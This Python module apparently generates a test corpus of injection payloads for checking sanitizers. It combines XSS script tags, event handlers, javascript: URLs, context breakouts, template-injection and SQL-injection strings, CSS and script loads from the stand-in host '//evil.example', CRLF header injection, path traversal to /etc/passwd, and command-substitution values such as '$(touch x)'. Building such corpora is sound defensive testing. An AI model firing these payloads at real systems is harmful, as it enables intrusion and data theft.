"""Texts that want to be more than texts, made up by combining families of payloads."""

from __future__ import annotations

from itertools import product

__all__ = ["corpus"]

_RUN = "window.executed=1"
_OUT = "//evil.example"
_SCRIPTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script\n>{run}</script\t>",
    "<script>{run}//",
    "<script src={out}/x.js></script>",
    "<svg><script>{run}</script></svg>",
    "<<script>{run}//<</script>",
    "<script/x>{run}</script>",
    "<script>/*",
    "<script type=module>{run}</script>",
)
_HANDLERS = (
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    '<img src="x" onerror="{run}">',
    "<img src=x onerror=eval(atob('d2luZG93LmV4ZWN1dGVkPTE='))>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<body onload={run}>",
    "<iframe onload={run}>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video src=x onerror={run}>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<object data=x onerror={run}>",
    "<style onload={run}>",
    "<a onmouseover={run}>hover</a>",
    "<div onpointerenter={run} style=position:fixed;inset:0>",
    "<image xlink:href=x onerror={run}>",
    "<math><mtext></mtext><style><img src onerror={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<p style=animation:x onanimationstart={run}>",
    "<link rel=stylesheet href=x onerror={run}>",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "https:{out}/?x",
    "{out}",
    "file:///etc/passwd",
    "javascript://%0a{run}",
    "jar:https:{out}!/x",
    "ws:{out}",
)
_LINKS = (
    "{it}",
    '<a href="{it}">x</a>',
    "[x]({it})",
    "![x]({it})",
    '<iframe src="{it}"></iframe>',
    '<form action="{it}"><input type=submit autofocus></form>',
    '<base href="{it}">',
    '<link rel="stylesheet" href="{it}">',
    '<meta http-equiv="refresh" content="0;url={it}">',
    '<img src="{it}" srcset="{it}">',
    '<embed src="{it}">',
    '<svg><use href="{it}"/></svg>',
    '<script src="{it}"></script>',
)
_WAYS_OUT = (
    "",
    '"',
    "'",
    "`",
    "\\",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</svg>",
    "-->",
    "<!--",
    "]]>",
    "*/",
    '"}}',
    "']);",
    '">',
    "'>",
    "</pre></td></table>",
)
_CORES = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    ";{run};//",
    '" onmouseover="{run}',
)
_TEMPLATES = (
    "{{{{7*7}}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "{{% import os %}}",
    "[[{run}]]",
    "{{{{constructor.constructor('{run}')()}}}}",
    "`${{{run}}}`",
    "$\\href{{javascript:{run}}}{{x}}$",
    "{{{{ ''.__class__.__mro__ }}}}",
    "%(x)s %s %n {{0}} {{x!r}}",
    "'; DROP TABLE entity; --",
)
_STYLES = (
    "color:red;background:url({out}/x.png)",
    "}}*{{background:url({out}/y.png)}}",
    "@import '{out}/z.css';",
    "width:expression({run})",
    "<style>*{{background:url({out}/s.png)}}</style>",
    "</style><style>*{{display:none}}",
    "position:fixed;inset:0;z-index:9999",
    "-moz-binding:url({out}/x.xml#x)",
)
_LETTERS = (
    "\u202egnp.exe",
    "\u2066\u202eabc\u2069",
    "a\u200db\u200bc",
    "\ufeffx",
    "a\u2028b\u2029c",
    "\x1b[31mred",
    "e" + "\u0301" * 200,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\x00<script>{run}</script>",
    "x\x00.html",
    "\x7f\x80\x9f",
    "\ufffe\uffff",
    "\ufb00\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\r\nSet-Cookie: x=1",
)
_NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "undefined",
    "null",
    "NaN",
    "../../etc/passwd",
    "CON",
    "a|b>c<d?*",
    "-rf",
    "~",
    "$(touch x)",
    "`id`",
    '{{"__proto__":{{"executed":1}}}}',
    "\\u003cscript\\u003e{run}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;",
    "%3Cscript%3E{run}",
)


def _filled(text: str) -> str:
    return text.format(run=_RUN, out=_OUT)


def corpus() -> list[str]:
    """Return the texts, each once, in one order; none is blank."""
    links = (way.replace("{it}", it) for it, way in product(_ADDRESSES, _LINKS))
    breaks = (way + core for way, core in product(_WAYS_OUT, _CORES))
    single = (*_SCRIPTS, *_HANDLERS, *_TEMPLATES, *_STYLES, *_LETTERS, *_NAMES)
    huge = ("A" * 20_000, "<b>" * 4_000, "\U0001f600" * 4_000, "x\n" * 4_000, "(" * 9_000)
    return list(dict.fromkeys([*map(_filled, (*single, *breaks, *links)), *huge]))
